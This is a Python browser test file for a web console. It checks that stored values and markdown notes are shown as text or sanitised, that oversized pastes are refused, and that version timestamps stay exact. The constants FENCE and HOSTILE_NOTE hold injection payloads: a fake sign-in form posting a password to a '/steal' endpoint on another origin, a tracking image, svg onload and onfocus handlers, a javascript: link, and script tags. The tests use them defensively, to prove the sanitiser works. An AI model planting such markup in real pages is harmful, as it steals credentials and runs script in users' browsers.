"""What only a real browser shows: hostile values and notes inject nothing, and nothing is lost in transit.

Values are text (a code fence in a value cannot end the block it is shown in); notes are sanitised to an
allow-list. The browser is also where a 10 MB paste meets the socket's message limit and where a 19-digit
timestamp meets JavaScript's numbers.
"""

from __future__ import annotations

import time
from collections.abc import Callable

from nicegui import Client
from nicegui.testing import Screen
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webelement import WebElement

from backend.routes.notes import HISTORY_PREFIX
from tests.browser.conftest import find_now
from tests.browser.test_browser import sign_in_with_link, wait_live
from tests.conftest import admin_client

ELSEWHERE = 'http://127.0.0.2:9'  # another origin, on loopback: nothing leaves the machine, nothing answers
FENCE = (f'harmless start\n```\n\n<form action="{ELSEWHERE}/steal" method="post"><input name="password">'
         f'<button>Sign in again</button></form>\n\n<img src="{ELSEWHERE}/pixel.png">\n\n```\nharmless end')
HOSTILE_NOTE = f'''# Hostile note

<form action="{ELSEWHERE}/steal"><input name="p" autofocus onfocus="document.title='pwned'"></form>

<img src="{ELSEWHERE}/pixel.png" alt="tracker">

<svg width="10" height="10" onload="document.title='pwned'"><circle r="5"/></svg>

<a href="javascript:document.title='pwned'">click me</a> and <a href="https://example.org/">a real link</a>

<iframe src="{ELSEWHERE}/"></iframe><style>body {{ display: none }}</style><script>document.title='pwned'</script>
'''
INJECTED = (f'form, input[name="password"], iframe, svg circle, img[src^="{ELSEWHERE}"], [onload], [onfocus], '
            '.nicegui-markdown style, .nicegui-markdown script, a[href^="javascript:"]')


def injected(screen: Screen) -> list[str]:
    """Elements a hostile value or note tried to add, as outer HTML (empty: none)."""
    return [e.get_attribute('outerHTML') or '' for e in find_now(screen, By.CSS_SELECTOR, INJECTED)]


def shown_as_text(screen: Screen, text: str) -> bool:
    """Whether a value/version block (a `<pre>`, or the old code block) shows `text`."""
    return bool(find_now(screen, By.XPATH, f'//pre[contains(., "{text}")]'))


def field(screen: Screen, label: str, index: int = 0) -> WebElement:
    return screen.selenium.find_elements(By.XPATH, f'//*[@aria-label="{label}"]')[index]


def server_side(marker: str):
    """The console's own element behind a marker (the screen fixture serves the app from this process)."""
    found = [element for client in list(Client.instances.values()) for element in client.elements.values()
             if marker in element._markers]
    assert found, f'no element marked {marker!r}: the page was reloaded (the browser froze past the reconnect timeout?)'
    return found[0]


def button(screen: Screen, text: str) -> WebElement:
    """The visible button with this text (a closed dialog or tab may hold another one)."""
    found = screen.selenium.find_elements(By.XPATH, f'//button[.//span[normalize-space()="{text}"]]')
    return next(b for b in found if b.is_displayed())


def click_until(screen: Screen, text: str, done: Callable[[], bool], every: float = 2.0) -> None:
    """Click the visible button with this text until the console has done what the click asks.

    Under load a re-render can swap the button's node between finding and clicking: the click then goes
    stale, or lands on a node no longer in the page and does nothing. So: click, give the server `every`
    seconds to react, click again if it has not.
    """
    last = float('-inf')

    def attempt() -> bool:
        nonlocal last
        if done():
            return True
        if time.monotonic() - last >= every:
            last = time.monotonic()
            button(screen, text).click()
        return done()
    screen.wait_for(attempt)  # retries when the node went stale


def paste(screen: Screen, box: WebElement, expression: str) -> None:
    """Replace a text box's content as a paste does (typing 10 MB key by key would take hours).

    Laying out 10 MB of text takes the browser seconds, more on a loaded machine, and chromedriver gives a
    busy renderer only the page-load timeout (4 s in NiceGUI's fixture): allow a minute for this one command.
    """
    screen.selenium.set_page_load_timeout(60)
    try:
        screen.selenium.execute_script(
            f"arguments[0].value = {expression}; arguments[0].dispatchEvent(new Event('input', {{bubbles: true}}));",
            box)
    finally:
        screen.selenium.set_page_load_timeout(4)


def add_version(backend, path: str, timestamp: int, content: str) -> None:
    key = HISTORY_PREFIX + path.encode() + b'\0' + f'{timestamp:020d}'.encode()
    backend.call(lambda b: b.store.system_put(key, content.encode()))


def test_a_value_with_a_code_fence_shows_as_text_in_the_explorer_and_time_travel(console_backend,
                                                                                  screen: Screen):
    with admin_client(console_backend) as api:
        api.post('/keys', json={'key': 'evil:fence', 'value': FENCE})
        api.put('/notes/fenced', json={'content': FENCE})
    sign_in_with_link(screen, '/keys')
    wait_live(screen)
    field(screen, 'Search keys').send_keys(
        'evil:fence', Keys.ENTER)  # an exact key + Enter opens it
    screen.wait_for(lambda: shown_as_text(screen, 'harmless end'))
    assert shown_as_text(screen, 'Sign in again'), 'the markup is shown, as text'
    assert injected(screen) == [], 'the value broke out of its block'
    screen.open('/time-travel?note=fenced')
    screen.wait_for(lambda: bool(find_now(screen, By.CSS_SELECTOR, 'button[title="View"]')))
    screen.selenium.find_element(By.CSS_SELECTOR, 'button[title="View"]').click()
    screen.wait_for(lambda: shown_as_text(screen, 'harmless end'))
    assert shown_as_text(screen, 'Sign in again')
    assert injected(screen) == [], 'the version broke out of its block'


def test_a_hostile_note_renders_without_forms_remote_images_svg_or_handlers(console_backend, screen: Screen):
    with admin_client(console_backend) as other:
        other.put('/notes/hostile', json={'content': HOSTILE_NOTE})
    screen.allowed_js_errors.append(f'{ELSEWHERE}/pixel.png')  # only after the reader asks for remote images
    sign_in_with_link(screen, '/notes?open=hostile')
    screen.should_contain('Hostile note')
    screen.should_contain('click me')
    assert injected(screen) == []
    assert screen.selenium.title != 'pwned'
    links = [a.get_attribute('href') for a in screen.selenium.find_elements(By.CSS_SELECTOR, '.nicegui-markdown a')]
    assert 'https://example.org/' in links
    screen.click('Show images from other sites')  # asked for: the remote image comes back, nothing else does
    screen.wait_for(lambda: bool(find_now(screen, By.CSS_SELECTOR, f'img[src="{ELSEWHERE}/pixel.png"]')))
    assert not find_now(screen, By.CSS_SELECTOR, 'form, svg circle, iframe, [onload], [onfocus]')


def test_a_10_mb_paste_is_refused_and_never_swapped_for_the_old_value(console_backend, screen: Screen):
    sign_in_with_link(screen, '/keys')
    wait_live(screen)
    screen.click('+ Key')
    field(screen, 'Key', 0).send_keys('paste:big')
    box = field(screen, 'Value')
    box.send_keys('small')
    screen.wait_for(lambda: server_side('insert-value').value == 'small')  # the small value reached the server
    paste(screen, box, "'x'.repeat(10000000)")
    screen.wait_for(lambda: server_side('insert-value').unsent_bytes is not None)  # only its size travelled
    click_until(screen, 'Insert', lambda: 'more than a text box can send' in server_side('insert-error').text)
    screen.should_contain('more than a text box can send')
    assert screen.selenium.execute_script('return arguments[0].value.length', box) == 10_000_000, 'the paste is kept'
    with admin_client(console_backend) as api:
        assert api.get('/keys/paste:big').status_code == 404, 'nothing is written, least of all the old value'
    paste(screen, box, "'short enough'")  # the user cuts it down: now it travels, and is written
    screen.wait_for(lambda: server_side('insert-value').value == 'short enough')
    click_until(screen, 'Insert', lambda: server_side('insert-value').value == '')  # the form empties once written
    screen.should_contain('inserted!')
    with admin_client(console_backend) as api:
        assert api.get('/keys/paste:big').json()['value'] == 'short enough'


def test_time_travel_views_the_exact_version_whose_button_was_clicked(console_backend, screen: Screen):
    first, second = 1_767_225_600_123_456_789, 1_767_225_600_123_456_790  # one and the same JavaScript number
    with admin_client(console_backend) as api:
        api.put('/notes/doc', json={'content': 'now'})
    add_version(console_backend, 'doc', first, 'first draft')
    add_version(console_backend, 'doc', second, 'second draft')
    sign_in_with_link(screen, '/time-travel?note=doc')
    screen.wait_for(lambda: len(find_now(screen, By.CSS_SELECTOR, 'button[title="View"]')) == 3)
    screen.selenium.find_elements(By.CSS_SELECTOR, 'button[title="View"]')[-1].click()  # the oldest
    screen.should_contain('first draft')
    screen.selenium.find_elements(By.CSS_SELECTOR, 'button[title="View"]')[-2].click()
    screen.should_contain('second draft')
